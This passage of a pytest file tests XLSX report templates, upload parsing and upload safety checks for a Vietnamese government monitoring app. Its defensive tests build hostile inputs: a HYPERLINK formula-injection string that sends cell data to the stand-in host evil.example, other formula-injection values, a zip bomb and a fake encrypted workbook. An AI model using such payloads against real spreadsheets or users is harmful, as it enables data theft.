"""The XLSX round-trip of a report request (giamsat.reporting.spreadsheet) and the upload checks made before
any parsing (giamsat.core.uploads). Every bad file is built here, in the test that refuses it."""

import datetime
import io
import re
import unicodedata
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.utils import column_index_from_string

import factories as f
from giamsat.core.models import AuditEntry
from giamsat.core.uploads import OLE2_MAGIC, UploadRejected, check_upload
from giamsat.core.vntext import encode_legacy
from giamsat.plans.choices import IndicatorKind, PeriodKind, PlanStatus, UnitAggregation
from giamsat.plans.models import Indicator, Plan, Programme, Target
from giamsat.reporting.choices import Frequency, ReportStatus
from giamsat.reporting.models import IndicatorValue, Report, ReportRequest, Schedule
from giamsat.reporting.services import (
    StaleDraft,
    ValueInput,
    do_accept,
    do_open_correction,
    do_return,
    do_save_draft,
    do_submit,
    get_or_start_draft,
)
from giamsat.reporting.spreadsheet import (
    META_SHEET,
    REPORT_SHEET,
    SCAN_ROWS,
    SpreadsheetErrors,
    _open_workbook,
    build_template,
    export_rows,
    parse_upload,
    safe_cell_value,
    sheet_title,
)
from giamsat.units.choices import OrganisationKind, Structure
from giamsat.units.models import Organisation

D = Decimal
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'

# Where the template puts things (checked by test_the_template_puts_each_indicator_on_its_row).
ROW = {"CT01": 9, "CT02": 10, "CT03": 11, "CT04": 12, "CT05": 13, "CT06": 14}


# --------------------------------------------------------------------------------------------- data


def make_plan(reference="4525/KH-UBND", title="Kế hoạch thực hiện Chương trình trợ giúp người khuyết tật"):
    issuer = Organisation.objects.get_or_create(
        name="Sở Lao động - Thương binh và Xã hội tỉnh Bình Thuận (thử)",
        unit=f.legacy_province(f.BINH_THUAN),
        defaults={"abbreviation": "SLĐTBXH", "kind": OrganisationKind.DEPARTMENT},
    )[0]
    programme, _created = Programme.objects.get_or_create(name="Trợ giúp người khuyết tật (thử)")
    plan = Plan.objects.create(
        reference=reference,
        issuer=issuer,
        issued_on=datetime.date(2020, 11, 20),
        title=title,
        programme=programme,
        first_year=2021,
        last_year=2030,
        status=PlanStatus.IN_FORCE,
    )
    specs = [
        ("CT01", "Số trẻ em được cấp thẻ bảo hiểm y tế", "trẻ em", IndicatorKind.COUNT, {}),
        ("CT02", "Giá trị quà tặng cho trẻ em", "VND", IndicatorKind.AMOUNT, {}),
        (
            "CT03",
            "Tỷ lệ xã đạt tiêu chuẩn phù hợp với trẻ em",
            "%",
            IndicatorKind.RATIO,
            {"unit_aggregation": UnitAggregation.RATIO, "numerator_label": "Số xã đạt", "denominator_label": "Số xã"},
        ),
        ("CT04", "Ban hành kế hoạch năm", "kế hoạch", IndicatorKind.MILESTONE, {}),
        ("CT05", "Tỷ lệ trẻ em đi học đúng độ tuổi", "%", IndicatorKind.COUNT, {}),
        ("CT06", "Số vụ xâm hại trẻ em được phát hiện", "vụ", IndicatorKind.COUNT, {"source": "cases"}),
    ]
    for order, (code, name, measure, kind, extra) in enumerate(specs, start=1):
        Indicator.objects.create(plan=plan, order=order, code=code, name=name, measure=measure, kind=kind, **extra)
    return plan


def make_request(plan, unit, year=2023) -> ReportRequest:
    schedule, _created = Schedule.objects.get_or_create(
        plan=plan, title="Báo cáo năm", defaults={"frequency": Frequency.YEARLY, "first_year": 2021, "last_year": 2025}
    )
    schedule.units.add(unit)
    return ReportRequest.objects.create(
        schedule=schedule,
        unit=unit,
        period_kind=PeriodKind.YEAR,
        period_start=datetime.date(year, 1, 1),
        period_end=datetime.date(year, 12, 31),
        due_on=datetime.date(year + 1, 1, 15),
    )


@pytest.fixture
def plan(db):
    return make_plan()


@pytest.fixture
def duc_linh(db):
    return f.legacy_district(f.DUC_LINH)


@pytest.fixture
def report_request(plan, duc_linh):
    return make_request(plan, duc_linh)


def indicator(plan, code) -> Indicator:
    return plan.indicators.get(code=code)


GOOD = {
    "F9": 1250,
    "F10": 35000000,
    "G11": 12,
    "H11": 15,
    "I12": "Đạt",
    "F13": 97.5,
    "J9": "Bảo hiểm xã hội huyện",
    "K9": "Số liệu đến 31/12",
}


def fill(content: bytes, cells: dict, sheet: str = REPORT_SHEET) -> bytes:
    """What an official does in Excel: open the file, type into cells, save."""
    wb = load_workbook(io.BytesIO(content))
    ws = wb[sheet]
    for coordinate, value in cells.items():
        ws[coordinate] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def errors_of(request, content) -> dict[str, str]:
    with pytest.raises(SpreadsheetErrors) as caught:
        parse_upload(request, content)
    return {e.cell: e.message for e in caught.value.errors}


def the_error(request, content) -> str:
    with pytest.raises(SpreadsheetErrors) as caught:
        parse_upload(request, content)
    assert len(caught.value.errors) == 1, caught.value.errors
    return caught.value.errors[0].message


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def rewritten(content: bytes, change) -> bytes:
    """The workbook with each XML member passed through change(name, text); change may add members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info).decode(), target))
    return out.getvalue()


def as_saved_by_excel(content: bytes) -> bytes:
    """The same workbook with its texts in a shared-strings table, as Excel saves them (openpyxl writes every
    text inline, so no other test reads a shared string)."""
    strings: list[str] = []
    inline = re.compile(r'<c ([^>]*?)t="inlineStr"([^>]*)><is>(<t[^>]*>.*?</t>|<t[^>]*/>)</is></c>', re.S)

    def share(match) -> str:
        strings.append(match[3])
        return f'<c {match[1]}t="s"{match[2]}><v>{len(strings) - 1}</v></c>'

    def change(name: str, text: str, target) -> str:
        if name.startswith("xl/worksheets/sheet"):
            return inline.sub(share, text)
        if name == "[Content_Types].xml":
            kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
            return text.replace(
                "</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
            )
        if name == "xl/_rels/workbook.xml.rels":
            kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
            relation = f'<Relationship Id="rIdShared" Type="{kind}" Target="sharedStrings.xml"/>'
            return text.replace("</Relationships>", relation + "</Relationships>")
        if name == "xl/workbook.xml":  # openpyxl stores it after every sheet, whose texts are collected by now
            items = "".join(f"<si>{t}</si>" for t in strings)
            target.writestr(
                "xl/sharedStrings.xml",
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>',
            )
        return text

    return rewritten(content, change)


# --------------------------------------------------------------------------------------------- uploads


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def test_it_accepts_a_real_workbook_and_leaves_the_file_at_its_start(report_request):
    file = upload("bao-cao.xlsx", build_template(report_request))
    assert check_upload(file, allowed={"xlsx"}, max_bytes=10 * 1024 * 1024) == "xlsx"
    assert file.tell() == 0


def test_it_accepts_a_pdf_and_a_docx(db):
    assert check_upload(upload("ke-hoach.pdf", b"%PDF-1.7\n..."), allowed={"pdf", "docx"}) == "pdf"
    assert check_upload(upload("ke-hoach.DOCX", docx_bytes()), allowed={"pdf", "docx"}) == "docx"


def test_it_refuses_a_text_file_renamed_xlsx():
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", "Đây là văn bản thường".encode()), allowed={"xlsx"}, max_bytes=1024)
    assert "không phải là bảng tính Excel (.xlsx)" in caught.value.message


def test_it_refuses_a_corrupted_zip(report_request):
    truncated = build_template(report_request)[:2000]
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", truncated), allowed={"xlsx"}, max_bytes=1024 * 1024)
    assert caught.value.message.startswith("Tệp bị hỏng")


def test_it_refuses_a_password_protected_workbook():
    encrypted = OLE2_MAGIC + b"\x00" * 504 + bytes(range(256)) * 8
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", encrypted), allowed={"xlsx"}, max_bytes=1024 * 1024)
    assert caught.value.message.startswith("Tệp đang đặt mật khẩu")


def test_it_recognises_encryption_by_the_streams_of_the_compound_file():
    encrypted = OLE2_MAGIC + b"\x00" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 100
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", encrypted), allowed={"xlsx"}, max_bytes=1024 * 1024)
    assert caught.value.message.startswith("Tệp đang đặt mật khẩu")


def test_it_asks_to_save_a_legacy_xls_as_xlsx():
    legacy = OLE2_MAGIC + b"\x00" * 1000 + "Workbook".encode("utf-16-le") + b"\x00" * 100
    for name in ("bao-cao.xls", "bao-cao.xlsx"):
        with pytest.raises(UploadRejected) as caught:
            check_upload(upload(name, legacy), allowed={"xlsx"}, max_bytes=1024 * 1024)
        assert "(.xls)" in caught.value.message and ".xlsx" in caught.value.message


def test_it_refuses_a_file_over_the_limit_and_says_the_limit_in_mb(report_request):
    content = build_template(report_request)
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", content + b"\x00" * (1024 * 1024)), allowed={"xlsx"}, max_bytes=1048576)
    assert caught.value.message == "Tệp quá lớn (1,1 MB). Dung lượng tối đa là 1 MB."


def test_the_default_limit_is_the_setting(settings, report_request):
    settings.GIAMSAT_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", build_template(report_request)), allowed={"xlsx"})
    assert caught.value.message.endswith("Dung lượng tối đa là 1 KB.")  # never "0 MB"


def test_it_checks_the_size_before_reading_anything():
    class Exploding(SimpleUploadedFile):
        def read(self, *args):
            raise AssertionError("read before the size check")

    big = Exploding("bao-cao.xlsx", b"x" * 10)
    big.size = 50 * 1024 * 1024
    with pytest.raises(UploadRejected):
        check_upload(big, allowed={"xlsx"}, max_bytes=1024)


def test_it_refuses_an_extension_not_allowed_and_content_that_does_not_match_the_name():
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("virus.exe", b"MZ\x90\x00"), allowed={"pdf", "docx"})
    assert "Chỉ nhận tệp" in caught.value.message
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bao-cao.xlsx", docx_bytes()), allowed={"xlsx", "docx"})
    assert "văn bản Word (.docx)" in caught.value.message


def test_it_refuses_a_zip_that_unpacks_to_far_more_than_the_limit():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (12 * 1024 * 1024))
    with pytest.raises(UploadRejected) as caught:
        check_upload(upload("bom.xlsx", out.getvalue()), allowed={"xlsx"}, max_bytes=1024 * 1024)
    assert "giải nén quá lớn" in caught.value.message


# --------------------------------------------------------------------------------------------- the template


def test_the_template_has_the_header_block_and_each_indicator_on_its_row(report_request):
    wb = load_workbook(io.BytesIO(build_template(report_request)))
    assert wb.sheetnames == [REPORT_SHEET, META_SHEET]
    ws = wb[REPORT_SHEET]
    header = " ".join(str(ws.cell(row=r, column=2).value) for r in range(2, 7))
    assert "4525/KH-UBND ngày 20/11/2020" in header
    assert "Huyện Đức Linh" in header and "Bình Thuận" in header
    assert "Năm 2023 (01/01/2023 – 31/12/2023)" in header
    assert "15/01/2024" in header
    assert [ws.cell(row=8, column=c).value for c in range(1, 12)] == [
        "Mã",
        "Chỉ tiêu",
        "Đơn vị tính",
        "Chỉ tiêu kỳ",
        "Số kỳ trước",
        "Giá trị",
        "Tử số",
        "Mẫu số",
        "Đạt/Chưa đạt",
        "Nguồn",
        "Ghi chú",
    ]
    assert {ws.cell(row=row, column=1).value: row for row in range(9, 15)} == ROW
    assert ws["A8"].font.b and ws["A8"].font.name == "Times New Roman"
    assert ws["B9"].font.name == "Times New Roman"
    assert ws.freeze_panes == "D9"
    assert ws.column_dimensions["B"].width >= 40


def test_the_hidden_sheet_says_which_request_plan_unit_and_period_and_where_each_indicator_is(report_request, plan):
    wb = load_workbook(io.BytesIO(build_template(report_request)))
    meta = wb[META_SHEET]
    assert meta.sheet_state == "veryHidden"
    pairs = {row[0]: row[1] for row in meta.iter_rows(values_only=True) if row[0] is not None}
    assert pairs["request_id"] == report_request.pk
    assert pairs["plan_id"] == plan.pk
    assert (pairs["unit_structure"], pairs["unit_code"]) == (Structure.LEGACY, f.DUC_LINH)
    assert (pairs["period_start"], pairs["period_end"]) == ("2023-01-01", "2023-12-31")
    rows = [r for r in meta.iter_rows(values_only=True) if isinstance(r[0], int) and r[2] in IndicatorKind.values]
    assert {code: row for _pk, code, _kind, row in rows} == ROW
    assert {code: kind for _pk, code, kind, _row in rows}["CT03"] == "ratio"


def test_the_template_locks_labels_unlocks_inputs_and_protects_the_sheet_without_password(report_request):
    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
    assert ws.protection.sheet is True
    assert not ws.protection.password
    for coordinate in ("A9", "B9", "C9", "D9", "E9", "A8", "F11", "G9", "I9", "F14", "J14"):
        assert ws[coordinate].protection.locked, coordinate
    for coordinate in ("F9", "F10", "G11", "H11", "I12", "F13", "J9", "K9", "K12"):
        assert not ws[coordinate].protection.locked, coordinate
    grey = ws["F11"].fill.fgColor.rgb  # ratio: no single value
    assert grey != ws["G11"].fill.fgColor.rgb
    assert ws["G9"].fill.fgColor.rgb == grey and ws["F14"].fill.fgColor.rgb == grey  # count; computed source


def test_the_template_validates_numbers_and_offers_the_milestone_list(report_request):
    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
    by_cell = {}
    for validation in ws.data_validations.dataValidation:
        for coordinate in str(validation.sqref).split():
            by_cell[coordinate] = validation
    assert by_cell["F9"].type == "decimal" and by_cell["F9"].operator == "greaterThanOrEqual"
    assert by_cell["F9"].formula1 == "0" and by_cell["F9"].showErrorMessage
    assert (by_cell["F13"].operator, by_cell["F13"].formula1, by_cell["F13"].formula2) == ("between", "0", "100")
    assert by_cell["H11"].operator == "greaterThan"
    assert by_cell["I12"].type == "list" and by_cell["I12"].formula1 == '"Đạt,Chưa đạt"'
    assert "F11" not in by_cell and "F14" not in by_cell


def test_the_template_shows_the_target_and_the_last_accepted_value(report_request, plan, duc_linh):
    ct01, ct02, ct03 = (indicator(plan, c) for c in ("CT01", "CT02", "CT03"))
    Target.objects.create(
        indicator=ct01,
        unit=duc_linh,
        period_kind=PeriodKind.YEAR,
        period_start=datetime.date(2023, 1, 1),
        period_end=datetime.date(2023, 12, 31),
        value=D("1300"),
    )
    # A phase target and a year target: the narrower one is the period's.
    for start, end, value in ((2021, 2025, "5000"), (2023, 2023, "1300")):
        Target.objects.create(
            indicator=ct02,
            unit=duc_linh,
            period_kind=PeriodKind.SPAN if start != end else PeriodKind.YEAR,
            period_start=datetime.date(start, 1, 1),
            period_end=datetime.date(end, 12, 31),
            value=D(value) * 1000,
        )
    Target.objects.create(  # another unit's target is not this one's
        indicator=ct01,
        unit=f.legacy_district(f.TANH_LINH),
        period_kind=PeriodKind.YEAR,
        period_start=datetime.date(2023, 1, 1),
        period_end=datetime.date(2023, 12, 31),
        value=D("999"),
    )
    for year, status, count in ((2021, ReportStatus.ACCEPTED, "1000"), (2022, ReportStatus.ACCEPTED, "1100")):
        report = Report.objects.create(request=make_request(plan, duc_linh, year), status=status)
        IndicatorValue.objects.create(report=report, indicator=ct01, value=D(count))
        IndicatorValue.objects.create(report=report, indicator=ct03, numerator=D(9), denominator=D(15))
    later = Report.objects.create(request=make_request(plan, duc_linh, 2024), status=ReportStatus.ACCEPTED)
    IndicatorValue.objects.create(report=later, indicator=ct01, value=D("7777"))

    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
    assert ws["D9"].value == 1300
    assert ws["D10"].value == 1300000
    assert ws["E9"].value == 1100
    assert "Năm 2022" in ws["E9"].comment.text
    assert ws["E11"].value == "9/15"
    assert ws["D11"].value is None and ws["E10"].value is None


def test_the_template_is_prefilled_with_the_current_draft(report_request, plan, district_officer):
    draft = get_or_start_draft(report_request, acting_user=district_officer)
    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT01"), value=D("1234.5"), source="UBND")
    IndicatorValue.objects.create(
        report=draft, indicator=indicator(plan, "CT03"), numerator=D(3), denominator=D(4), comment="ghi chú"
    )
    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT04"), value=D(0))
    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
    assert (ws["F9"].value, ws["J9"].value) == (1234.5, "UBND")
    assert (ws["G11"].value, ws["H11"].value, ws["K11"].value) == (3, 4, "ghi chú")
    assert ws["I12"].value == "Chưa đạt"
    assert ws["F10"].value is None


def test_a_label_that_looks_like_a_formula_is_written_as_text(plan, report_request):
    Indicator.objects.filter(plan=plan, code="CT02").update(name=HYPERLINK, measure="+VND")
    content = build_template(report_request)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    ws = load_workbook(io.BytesIO(content))[REPORT_SHEET]
    assert ws["B10"].value == HYPERLINK and ws["B10"].data_type == "s"
    assert ws["B10"].quotePrefix
    assert ws["C10"].value == "+VND" and ws["C10"].data_type == "s"


# --------------------------------------------------------------------------------------------- safe exports


def test_exports_neutralise_formula_injection_and_keep_the_text_exact():
    risky = [HYPERLINK, "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1", "#N/A"]
    content = export_rows(["Nội dung", "Số"], [[text, 1] for text in risky] + [["bình thường", D("2.50")]])
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    ws = load_workbook(io.BytesIO(content)).active
    assert [ws.cell(row=r, column=1).value for r in range(2, 8)] == risky
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 9))
    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(2, 8))
    assert ws["A1"].font.b and ws["A1"].value == "Nội dung"
    assert ws["A1"].fill.fgColor.rgb.endswith("DDEBF7")
    assert ws.freeze_panes == "A2"
    assert (ws["A8"].value, ws["B8"].value) == ("bình thường", 2.5)
    body = ws["B8"]
    assert body.font.name == "Times New Roman" and body.font.sz == 12 and not body.font.b
    assert not ws["A8"].quotePrefix and body.fill.fill_type is None


def test_safe_cell_value_converts_what_excel_cannot_hold():
    aware = datetime.datetime(2024, 1, 2, 3, 4, tzinfo=datetime.UTC)
    assert safe_cell_value(aware).tzinfo is None
    assert safe_cell_value(D("12")) == 12 and isinstance(safe_cell_value(D("12.0000")), int)
    assert safe_cell_value(float("nan")) is None
    assert safe_cell_value("a\x00b\x07c") == "abc"
    assert safe_cell_value("x" * 40000) == "x" * 32767
    assert safe_cell_value(None) is None and safe_cell_value(True) is True
    assert str(safe_cell_value("=1+1")) == "=1+1"


# --------------------------------------------------------------------------------------------- round trip


def test_a_filled_template_round_trips_and_replaces_the_draft(report_request, plan, district_officer):
    content = fill(build_template(report_request), GOOD)
    parsed = parse_upload(report_request, content)
    assert parsed.from_template and parsed.conversions == [] and parsed.warnings == []
    got = {v.indicator.code: (v.value, v.numerator, v.denominator, v.source, v.comment) for v in parsed.values}
    assert got == {
        "CT01": (D("1250"), None, None, "Bảo hiểm xã hội huyện", "Số liệu đến 31/12"),
        "CT02": (D("35000000"), None, None, "", ""),
        "CT03": (None, D("12"), D("15"), "", ""),
        "CT04": (D("1"), None, None, "", ""),
        "CT05": (D("97.5"), None, None, "", ""),
    }  # CT06 comes from case data, not from the unit

    draft = get_or_start_draft(report_request, acting_user=district_officer)
    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT02"), value=D(1))
    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=parsed.values)
    stored = {v.indicator.code: (v.value, v.numerator, v.denominator) for v in draft.values.select_related("indicator")}
    assert stored["CT01"] == (D("1250"), None, None)
    assert stored["CT02"] == (D("35000000"), None, None)
    assert stored["CT03"] == (None, D("12"), D("15"))

    # Download again: the draft's values are in it; change one value and upload: the draft is replaced.
    again = fill(build_template(report_request), {"F9": "1.300"})
    parsed = parse_upload(report_request, again)
    assert parsed.template_revision == 1
    draft.refresh_from_db()
    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=parsed.values)
    assert draft.values.get(indicator__code="CT01").value == D("1300")
    assert draft.values.count() == 5


def test_it_reads_numbers_typed_as_text_in_vietnamese_notation(report_request):
    cells = GOOD | {"F9": "1.234,5", "F10": "2.000.000 đ", "G11": " 12 ", "H11": "1.500", "F13": "85,5%"}
    values = {
        v.indicator.code: v for v in parse_upload(report_request, fill(build_template(report_request), cells)).values
    }
    assert values["CT01"].value == D("1234.5")
    assert values["CT02"].value == D("2000000")
    assert (values["CT03"].numerator, values["CT03"].denominator) == (D("12"), D("1500"))
    assert values["CT05"].value == D("85.5")


def test_a_count_typed_as_one_comma_three_digits_is_asked_about_not_read_as_a_fraction(report_request):
    """ "1,234" from an English-language Excel was saved as 1.234 children."""
    cells = GOOD | {"F9": "1,234", "H11": "1,500", "F10": "1,250 đ", "F13": "97,500"}
    assert errors_of(report_request, fill(build_template(report_request), cells)) == {
        "F9": "Chỉ tiêu CT01: không rõ “1,234” là 1234 (dấu phẩy ngăn cách hàng nghìn) hay là số thập phân. Nếu là "
        "1234, hãy gõ 1234, không có dấu phẩy.",
        "H11": "Chỉ tiêu CT03: không rõ “1,500” là 1500 (dấu phẩy ngăn cách hàng nghìn) hay là số thập phân. Nếu là "
        "1500, hãy gõ 1500, không có dấu phẩy.",
        # CT02 is in VND: no fraction of a đồng either, with its unit written or not.
        "F10": "Chỉ tiêu CT02: không rõ “1,250 đ” là 1250 (dấu phẩy ngăn cách hàng nghìn) hay là số thập phân. Nếu "
        "là 1250, hãy gõ 1250, không có dấu phẩy.",
    }
    # A percentage, or an amount in millions, may have decimals: the Vietnamese reading stands. So do other decimals
    # of a count.
    cells = GOOD | {"F9": "1,5", "H11": "1.500", "F10": "1,250", "F13": "97,500"}
    Indicator.objects.filter(code="CT02").update(measure="triệu đồng")
    values = {
        v.indicator.code: v for v in parse_upload(report_request, fill(build_template(report_request), cells)).values
    }
    assert (values["CT01"].value, values["CT03"].denominator) == (D("1.5"), D(1500))
    assert (values["CT02"].value, values["CT05"].value) == (D("1.25"), D("97.5"))


def test_a_file_saved_with_shared_strings_reads_the_same(report_request):
    legacy = encode_legacy("Số liệu của Phòng Lao động huyện", "tcvn3")
    content = fill(build_template(report_request), GOOD | {"F10": "2.000.000 đ", "K10": legacy, "J10": "=B9"})
    excel = as_saved_by_excel(content)
    with zipfile.ZipFile(io.BytesIO(excel)) as archive:
        assert 't="s"' in archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<t>CT01</t>" in archive.read("xl/sharedStrings.xml").decode()
    assert (
        errors_of(report_request, excel)
        == errors_of(report_request, content)
        == {"J10": "Ô J10 chứa công thức; hãy dán giá trị (Paste Special → Values)."}
    )
    content = fill(build_template(report_request), GOOD | {"F10": "2.000.000 đ", "K10": legacy})
    ours, excels = parse_upload(report_request, content), parse_upload(report_request, as_saved_by_excel(content))
    assert excels.values == ours.values and excels.conversions == ours.conversions
    assert excels.template_revision == ours.template_revision and excels.from_template


def test_uploading_again_rewrites_only_the_values_that_changed(report_request, district_officer):
    draft = get_or_start_draft(report_request, acting_user=district_officer)
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD))
    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=parsed.values)
    rows = dict(draft.values.values_list("indicator__code", "pk"))

    again = parse_upload(report_request, fill(build_template(report_request), GOOD | {"F9": 1300, "K10": "mới"}))
    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=again.values)
    assert draft.revision == 2
    now = dict(draft.values.values_list("indicator__code", "pk"))
    assert {code for code in rows if now[code] != rows[code]} == {"CT01", "CT02"}  # unchanged rows are left alone
    stored = {v.indicator.code: (v.value, v.comment) for v in draft.values.select_related("indicator")}
    assert stored["CT01"] == (D(1300), "Số liệu đến 31/12") and stored["CT02"] == (D(35000000), "mới")
    entries = AuditEntry.objects.filter(action="report.save", object_id=str(draft.pk)).order_by("pk")
    assert [e.changes["indicators_changed"] for e in entries] == [["CT01", "CT02", "CT03", "CT04", "CT05"], ["CT01"]]

    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=again.values[1:])
    assert sorted(draft.values.values_list("indicator__code", flat=True)) == ["CT02", "CT03", "CT04", "CT05"]


def test_a_cell_formatted_as_percent_gives_the_percentage(report_request):
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    wb[REPORT_SHEET]["F13"].value = 0.855
    wb[REPORT_SHEET]["F13"].number_format = "0.0%"
    out = io.BytesIO()
    wb.save(out)
    values = {v.indicator.code: v for v in parse_upload(report_request, out.getvalue()).values}
    assert values["CT05"].value == D("85.5")


def test_a_percentage_typed_as_a_fraction_is_taken_and_pointed_out(report_request, district_officer):
    """0.975 typed in a General cell for CT05 (in %) was saved as 0.975 % without a word; 97.5 was meant."""
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"F13": 0.975}))
    parsed.save_into(report_request, acting_user=district_officer)
    assert {v.indicator.code: v.value for v in parsed.values}["CT05"] == D("0.975")
    assert parsed.warnings == [
        "Ô F13: 0,975 được hiểu là 0,975% (chỉ tiêu CT05 tính bằng %). Nếu ý bạn là 97,5%, hãy nhập 97,5 rồi tải "
        "lên lại."
    ]
    # The template now shows the figure saved: uploaded again with another figure changed, it is not pointed out.
    again = parse_upload(report_request, fill(build_template(report_request), {"F9": 1300}))
    again.save_into(report_request, acting_user=district_officer)
    assert again.warnings == []
    for cells in ({"F13": "0,975"}, {"F13": 97.5}, {"F13": 0}):  # typed as text, or not a fraction
        parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | cells))
        parsed.save_into(report_request, acting_user=district_officer)
        assert parsed.warnings == []


def test_a_percent_sign_in_a_rates_numerator_says_the_parts_are_counts(report_request):
    """ "12%" in CT03's numerator was told "CT03 không tính bằng %", though the template shows CT03 in %."""
    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"G11": "12%"}))
    assert errors == {"G11": "Chỉ tiêu CT03: tử số và mẫu số là số đếm, không có dấu %; tỷ lệ được tính tự động."}


def test_nfd_text_is_normalised_without_being_reported_as_converted(report_request):
    nfd = unicodedata.normalize("NFD", "Phòng Lao động – Thương binh và Xã hội")
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"J9": nfd}))
    assert parsed.values[0].source == "Phòng Lao động – Thương binh và Xã hội"
    assert parsed.values[0].source == unicodedata.normalize("NFC", parsed.values[0].source)
    assert parsed.conversions == []


def test_a_tcvn3_comment_is_converted_and_reported(report_request):
    legacy = encode_legacy("Số liệu của Phòng Lao động huyện", "tcvn3")
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"K10": legacy}))
    ct02 = next(v for v in parsed.values if v.indicator.code == "CT02")
    assert ct02.comment == "Số liệu của Phòng Lao động huyện"
    [conversion] = parsed.conversions
    assert (conversion.sheet, conversion.cell, conversion.encoding) == (REPORT_SHEET, "K10", "tcvn3")
    assert (conversion.before, conversion.after) == (legacy, "Số liệu của Phòng Lao động huyện")


def test_a_short_cell_is_read_in_the_encoding_of_its_column(report_request):
    """ "Mét" is a valid word as it stands and TCVN3 for "Một"; the TCVN3 source beside it decides."""
    legacy = {"J9": encode_legacy("Bảo hiểm xã hội huyện", "tcvn3"), "K9": encode_legacy("Một", "tcvn3")}
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | legacy))
    assert (parsed.values[0].source, parsed.values[0].comment) == ("Bảo hiểm xã hội huyện", "Một")
    assert [(c.cell, c.before, c.after) for c in parsed.conversions] == [
        ("J9", legacy["J9"], "Bảo hiểm xã hội huyện"),
        ("K9", "Mét", "Một"),
    ]


@pytest.mark.parametrize(
    "cells",
    [
        {"K9": "Xã Tân Hà"},  # "à" has no TCVN3 code: this cell cannot be TCVN3
        {"K9": "Xã Tân", "K10": "Đức Linh"},  # "Đ" has none either: the column was typed in Unicode too
    ],
)
def test_valid_unicode_is_not_converted_with_a_legacy_column(report_request, cells):
    """ "Xã Tân Hà" was saved as "Xó Tõn Hà": its letters are TCVN3 codes too, and the column held TCVN3."""
    legacy = encode_legacy("Bảo hiểm xã hội huyện", "tcvn3")
    parsed = parse_upload(
        report_request, fill(build_template(report_request), GOOD | cells | dict.fromkeys(("J9", "J11", "K11"), legacy))
    )
    assert parsed.values[0].source == "Bảo hiểm xã hội huyện"
    assert parsed.values[0].comment == cells["K9"]
    assert [c.cell for c in parsed.conversions] == ["J9", "J11", "K11"]


def test_a_short_legacy_cell_is_converted_though_another_column_holds_unicode(report_request):
    """One comment typed in Unicode anywhere in the sheet kept every short TCVN3 source as it was ("Mét")."""
    cells = {"J9": encode_legacy("Một", "tcvn3"), "J10": encode_legacy("Bảo hiểm xã hội huyện", "tcvn3")}
    cells |= {"J11": encode_legacy("Phòng Lao động", "tcvn3"), "K9": "Đã kiểm tra"}
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | cells))
    assert (parsed.values[0].source, parsed.values[0].comment) == ("Một", "Đã kiểm tra")
    assert [c.cell for c in parsed.conversions] == ["J9", "J10", "J11"]


def test_a_word_a_legacy_column_would_break_is_kept(report_request):
